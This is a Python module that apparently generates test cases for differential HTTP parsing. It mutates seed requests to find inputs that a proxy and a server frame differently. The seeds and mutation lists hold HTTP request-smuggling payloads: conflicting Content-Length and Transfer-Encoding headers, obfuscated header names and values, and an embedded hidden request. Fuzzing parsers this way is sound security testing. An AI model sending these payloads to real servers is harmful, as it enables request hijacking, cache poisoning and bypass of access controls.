"""Requests that two servers could read differently, made by changing good ones."""

from __future__ import annotations

import random
from collections.abc import Callable

HIDDEN = b"GET /hidden-%(case)s HTTP/1.1\r\nHost: a\r\n\r\n"
"""What an attacker wants an origin to see as a request of its own."""

SEEDS = [
    b"GET /%(case)s HTTP/1.1\r\nHost: a\r\n\r\n",
    b"POST /%(case)s HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello",
    b"POST /%(case)s HTTP/1.1\r\nHost: a\r\nContent-Length: %(size)d\r\n\r\n" + HIDDEN,
    b"POST /%(case)s HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    b"POST /%(case)s HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n%(size)x\r\n" + HIDDEN + b"\r\n0\r\n\r\n",
    b"POST /%(case)s HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5;a=b\r\nhello\r\n0\r\nX-T: y\r\n\r\n",
    b"POST /%(case)s HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + HIDDEN,
    b"POST /%(case)s HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + HIDDEN,
    b"GET /%(case)s HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\nContent-Length: %(size)d\r\n\r\n" + HIDDEN,
    b"POST /%(case)s HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: %(size)d\r\n\r\n" + HIDDEN,
    b"GET /%(case)s HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" + HIDDEN,
    b"GET http://a/%(case)s HTTP/1.1\r\nHost: a\r\n\r\n",
    b"HEAD /%(case)s HTTP/1.1\r\nHost: a\r\nContent-Length: %(size)d\r\n\r\n" + HIDDEN,
    b"OPTIONS /%(case)s HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\nContent-Length: 5\r\n\r\nhello",
    b"GET /%(case)s HTTP/1.1\r\nHost: a\r\nConnection: Content-Length\r\nContent-Length: %(size)d\r\n\r\n" + HIDDEN,
]  # fmt: skip

NAMES = [
    b"Transfer-Encoding", b"Transfer_Encoding", b"Transfer-Encoding ", b" Transfer-Encoding", b"\tTransfer-Encoding",
    b"Transfer-Encoding\x0b", b"Transfer\r\n-Encoding", b"transfer-encoding", b"X: y\nTransfer-Encoding",
    b"X: y\rTransfer-Encoding", b"Content-Length", b"content-length", b"Content-Length ", b"Content_Length",
    b"Content-Length\0", b"\0Content-Length", b"Content-Length\t", b"X: y\nContent-Length", b"Content-Encoding",
    b"Transfer-Encod\xc4\xb1ng", b"Trailer", b"TE",
]  # fmt: skip
VALUES = [
    b"chunked", b"Chunked", b"chunked, chunked", b"identity", b"chunked, identity", b"identity, chunked", b"xchunked",
    b"chunked\0", b"chunked;a=b", b'"chunked"', b"\x0bchunked", b" chunked", b"chunked\r\n x", b"gzip, chunked",
    b"0", b"5", b"05", b"+5", b"-1", b"5 5", b"5,5", b"5, 6", b"0x5", b"5\0", b"\x0b5", b"5e0", b"", b"9" * 20,
    b"18446744073709551621", b"\xb2", b"5\r\n\t6",
]  # fmt: skip
SIZES = [
    b"5", b"05", b"0000000000000005", b"0x5", b"+5", b"-5", b"5 ", b" 5", b"5;", b"5;a", b"5;a=\"\n\"", b"5;a=b;c",
    b"5\0", b"5\t;x", b"10000000000000005", b"5g", b"", b"\n5", b"5\r", b"5;" + b"x" * 300, b"5;\x7f", b"A",
]  # fmt: skip
ENDS = [
    b"\n",
    b"\r",
    b"\r\r\n",
    b"\n\r\n",
    b"\r\n ",
    b"\r\n\t",
    b"\0\r\n",
    b"\x0b\r\n",
    b" \r\n",
    b"\r\n\r\n",
]

Mutation = Callable[[random.Random, bytes], bytes]


def another_line(chance: random.Random, data: bytes) -> bytes:
    """Add a field that says something about the framing."""
    lines = data.split(b"\r\n")
    head = max(1, lines.index(b"") if b"" in lines else len(lines))
    line = (
        chance.choice(NAMES) + chance.choice([b": ", b":", b" : ", b":\t"]) + chance.choice(VALUES)
    )
    lines.insert(chance.randint(1, head), line)
    return b"\r\n".join(lines)


def another_end(chance: random.Random, data: bytes) -> bytes:
    """Replace the end of a line."""
    parts = data.split(b"\r\n")
    at = chance.randrange(len(parts))
    return b"\r\n".join(parts[:at]) + chance.choice(ENDS) + b"\r\n".join(parts[at:])


def another_size(chance: random.Random, data: bytes) -> bytes:
    """Write the size of the first chunk differently."""
    return data.replace(b"\r\n\r\n5\r\n", b"\r\n\r\n" + chance.choice(SIZES) + b"\r\n", 1)


def another_byte(chance: random.Random, data: bytes) -> bytes:
    """Change, add or drop one byte."""
    at = chance.randrange(len(data))
    new = bytes((chance.choice([0, 9, 10, 11, 13, 32, 58, 127, 255, chance.randrange(256)]),))
    return data[:at] + chance.choice([new, b"", new + data[at : at + 1]]) + data[at + 1 :]


def another_version(chance: random.Random, data: bytes) -> bytes:
    """Claim another version."""
    version = chance.choice(
        [b"HTTP/1.0", b"HTTP/1.2", b"HTTP/0.9", b"HTTP/2.0", b"http/1.1", b"HTTP/01.1", b""]
    )
    return data.replace(b"HTTP/1.1", version, 1)


def with_trailers(chance: random.Random, data: bytes) -> bytes:
    """End a chunked body with trailers about the framing."""
    line = chance.choice(NAMES) + b": " + chance.choice(VALUES)
    return data.replace(b"0\r\n\r\n", b"0\r\n" + line + b"\r\n\r\n", 1)


MUTATIONS: list[Mutation] = [
    another_line, another_line, another_end, another_size, another_byte, another_byte, another_version, with_trailers,
]  # fmt: skip


def mutated(seed: int) -> bytes:
    """Return the bytes of case ``seed``: the same for the same number."""
    chance = random.Random(seed)
    case = b"c%06d" % seed
    size = len(HIDDEN % {b"case": case})
    data = chance.choice(SEEDS) % {b"case": case, b"size": size}
    for _ in range(chance.choice([0, 1, 1, 1, 2, 2, 3])):
        changed = chance.choice(MUTATIONS)(chance, data)
        if changed.count(case) == data.count(case):  # else nobody could tell whose it is
            data = changed
    if chance.random() < 0.5:
        data += (
            b"GET /%b HTTP/1.1\r\nHost: a\r\n\r\n" % case
        )  # one more, if the first ended where we think
    return data
